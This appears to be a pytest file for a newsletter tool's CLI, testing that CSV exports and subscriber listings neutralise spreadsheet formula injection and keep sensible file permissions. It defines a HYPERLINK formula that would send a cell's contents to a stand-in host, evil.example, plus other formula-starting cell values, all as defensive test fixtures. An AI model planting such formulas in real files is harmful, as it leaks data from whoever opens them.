"""`newsletter status --export` and `subscribers list`: files and listings meant for people
never carry a cell a spreadsheet would run as a formula (OWASP CSV injection)."""

from __future__ import annotations

import csv
import os

from conftest import Project

DAY = "2026-11-27"
EVIL_REPLY = '550 =HYPERLINK("http://evil.example/?leak="&A1,"click")'


def test_export_neutralises_cells_that_start_a_formula(project: Project, smtp) -> None:
    recorder, url = smtp
    project.write(
        "subscribers/subscribers.csv",
        "email,name\nann@example.com,Ann\n-dash@example.com,Dash\n+plus@example.com,Plus\n",
    )
    # aiosmtpd's reply text after the code: what the relay says lands in last_text
    recorder.rcpt_replies["ann@example.com"] = EVIL_REPLY
    assert project.run("send", "--date", DAY, env={"NEWSLETTER_SMTP_URL": url}).code == 1

    run = project.run("status", "--export", "report.csv")

    assert run.code == 0, run.err
    assert run.out.strip() == "3 recipients written to report.csv"
    report = project.path / "report.csv"
    assert oct(report.stat().st_mode & 0o777) == oct(0o600)  # it lists addresses
    with report.open(encoding="utf-8", newline="") as handle:
        rows = {r["email"]: r for r in csv.DictReader(handle)}
    assert rows["ann@example.com"]["last_text"] == "'" + EVIL_REPLY[4:]
    assert rows["ann@example.com"]["last_code"] == "550"
    assert "'-dash@example.com" in rows and "'+plus@example.com" in rows
    assert "=HYPERLINK" not in report.read_text().replace("'=HYPERLINK", "")


def test_export_of_a_single_recipient_and_without_any_edition(project: Project) -> None:
    none = project.run("status", "--export", "report.csv")
    assert none.code == 2 and "no editions yet: nothing to export" in none.err
    project.run("subscribers", "unsubscribe", "nobody@example.com")  # creates the database
    empty = project.run("status", "--export", "report.csv")
    assert empty.code == 2
    assert "None" not in empty.err and "no editions yet: nothing to export" in empty.err
    assert not (project.path / "report.csv").exists()

    project.write("subscribers/subscribers.csv", "email,name\nann@example.com,Ann\n")
    assert project.run("send", "--date", DAY).code == 0
    one = project.run("status", "--export", "report.csv")
    assert one.out.strip() == "1 recipient written to report.csv"
    missing = project.run("status", "--date", "2026-01-01", "--export", "report.csv")
    assert missing.code == 2 and "no edition for 2026-01-01" in missing.err


def test_an_existing_export_file_keeps_its_mode(project: Project) -> None:
    assert project.run("send", "--date", DAY).code == 0
    report = project.path / "report.csv"
    report.write_text("old")
    os.chmod(report, 0o640)
    assert project.run("status", "--export", "report.csv").code == 0
    assert oct(report.stat().st_mode & 0o777) == oct(0o640)
    assert report.read_text().startswith("email,status")


def test_subscribers_list_neutralises_cells_the_list_keeps_as_data(project: Project) -> None:
    project.write(
        "subscribers/subscribers.csv",
        "email,name\n=cmd@example.com,@SUM(1+1)\nann@example.com,-2+3\n",
    )

    listed = project.run("subscribers", "list")

    assert listed.code == 0, listed.err
    assert listed.out.splitlines() == [
        "'=cmd@example.com\t'@SUM(1+1)\tactive",
        "ann@example.com\t'-2+3\tactive",
    ]
    data = (project.path / "subscribers" / "subscribers.csv").read_text()
    assert "=cmd@example.com,@SUM(1+1)" in data  # the list itself is data: never altered
